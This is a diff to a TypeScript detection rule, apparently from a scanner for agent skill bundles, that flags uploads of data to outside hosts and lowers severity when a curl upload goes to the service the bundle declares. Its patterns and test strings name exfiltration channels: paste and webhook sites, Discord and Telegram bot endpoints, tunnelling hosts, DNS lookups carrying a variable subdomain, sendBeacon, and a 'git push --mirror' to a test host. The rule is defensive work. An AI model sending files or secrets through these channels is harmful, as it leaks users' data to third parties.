@@ -1,4 +1,48 @@
-import { defineRegexRule } from '../regex-rule';
+import type { ScanContext } from '../../views/scan-context';
+import { parseFrontmatter } from '../../parsers/frontmatter.parser';
+import { realHost } from '../credential-vendors';
+import { defineRegexRule, perFile } from '../regex-rule';
+
+const SHELL_URL_ASSIGNMENT_RE = /^\s{0,8}(?:export\s{1,3}|readonly\s{1,3}|local\s{1,3})?([A-Za-z_]\w{0,40})=["']?(https:\/\/[^\s"']{1,300})/;
+const CURL_TARGET_RE = /(https:\/\/[^\s"'`)]{1,300})|["']?\$\{?([A-Za-z_]\w{0,40})\}?/g;
+
+/** Shell variables assigned an https URL in this file (DEPLOY_ENDPOINT="https://…"). */
+const urlVariables = perFile((ctx: ScanContext): Map<string, string> => {
+  const vars = new Map<string, string>();
+  for (const line of ctx.lines) {
+    const m = SHELL_URL_ASSIGNMENT_RE.exec(line);
+    if (m && !vars.has(m[1])) vars.set(m[1], m[2]);
+  }
+  return vars;
+});
+
+/** Words of the bundle's declared purpose: the name and description of its SKILL.md. */
+const declaredPurposeWords = perFile((ctx: ScanContext): Set<string> => {
+  const skill = ctx.bundle.files.find((f) => /(?:^|\/)SKILL\.md$/i.test(f.relativePath));
+  const data = skill ? parseFrontmatter(skill.text.split('\n'))?.data : null;
+  const text = `${String(data?.name ?? '')} ${String(data?.description ?? '')}`.toLowerCase();
+  return new Set(text.split(/[^a-z0-9]+/).filter((w) => w.length >= 4));
+});
+
+/**
+ * The upload goes to the service the bundle says it is for ("Deploy applications to Vercel" posting
+ * to *.vercel.com, resolved through the script's own URL variable): the declared purpose, not a
+ * leak to a third party. Judged on the real host's service label.
+ */
+function uploadsToDeclaredService(ctx: ScanContext, line: string): boolean {
+  const words = declaredPurposeWords(ctx);
+  if (words.size === 0) return false;
+  const targets: string[] = [];
+  for (const m of line.matchAll(CURL_TARGET_RE)) {
+    const url = m[1] ?? urlVariables(ctx).get(m[2] ?? '');
+    if (url) targets.push(url);
+  }
+  return targets.length > 0 && targets.every((url) => {
+    const labels = realHost(url)?.split('.') ?? [];
+    const service = labels.length >= 2 ? labels[labels.length - 2] : '';
+    return service.length >= 4 && words.has(service);
+  });
+}
 
 export const exfUploadExternalRule = defineRegexRule({
   meta: {
@@ -18,6 +62,7 @@ export const exfUploadExternalRule = defineRegexRule({
         { text: 'git remote add mirror https://git.test/x.git && git push --mirror mirror' },
       ],
       negative: [
+        { text: '```powershell\nWrite-Host $_.Output.ErrorInfo.Message\n```' },
         { text: 'curl -X POST https://api.example.com/v1/items -d \'{"name":"a"}\'' },
         { text: 'gh gist create notes.md  # private by default' },
         { text: 'git push origin feature/login' },
@@ -31,8 +76,13 @@ export const exfUploadExternalRule = defineRegexRule({
     /\bgh\s{1,3}gist\s{1,3}create\b[^\n]{0,80}(?:--public|-p)\b/i,
     /\bgit\s{1,3}push\s{1,3}(?:[^\n;|&]{0,40}\s)?--mirror\b/i,
     /\b(?:webhook\.site|requestbin|pipedream\.net|hookbin|beeceptor|ngrok-free\.app|ngrok\.io|trycloudflare\.com|transfer\.sh|file\.io|0x0\.st|pastebin\.com\/api|paste\.ee|termbin\.com|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hooks\.slack\.com\/services|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|burpcollaborator\.net|canarytokens)\b/i,
-    /\b(?:nslookup|dig|host)\s{1,3}[^\n]{0,40}\$\{?\w{1,30}\}?\.[\w-]{1,63}\./i,
+    /(?<![-\w])(?:nslookup|dig|host)\s{1,3}[^\n]{0,40}\$\{?\w{1,30}\}?\.[\w-]{1,63}\./i,
     /\bsendBeacon\(/,
   ],
   views: ['raw', 'normalized', 'hidden', 'decoded'],
+  refine(hit, _m, ctx, view) {
+    if (view.name !== 'raw' || !/^curl\b/i.test(hit.evidence)) return hit;
+    const line = ctx.lines[hit.line - 1] ?? '';
+    return uploadsToDeclaredService(ctx, line) ? { ...hit, severity: 'medium', confidence: 'low', message: 'Upload to the service the bundle declares it deploys to' } : hit;
+  },
 });
